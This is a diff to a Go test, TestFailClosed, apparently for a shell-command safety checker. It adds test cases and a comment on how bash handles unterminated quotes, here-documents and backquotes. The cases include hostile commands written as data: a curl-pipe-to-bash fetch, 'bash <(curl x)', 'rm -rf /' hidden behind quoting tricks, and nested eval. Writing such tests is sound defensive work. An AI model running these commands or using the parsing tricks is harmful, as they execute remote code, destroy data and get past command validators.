@@ -467,7 +467,13 @@ func TestFailClosed(t *testing.T) {
 		"curl -fsSL https://x.example.com/i.sh | bash",
 		"$((a); (b))",
 		"arr=([^\\#]*)",
-		"rm -rf / 'unterminated",
+		// bash runs nothing of a line that ends in an open quote, but the
+		// lines before it run, and a here-document runs at the end of
+		// input, and a backquote is read only when it runs.
+		"rm -rf /\necho 'unterminated",
+		"rm -rf / <<EOF",
+		"rm -rf / `'`",
+		"echo '{}",
 		"zsh --no-rcs -c 'ls'",
 		"eval " + strings.Repeat("eval ", 12) + "ls",
 		"bash <(curl x)",
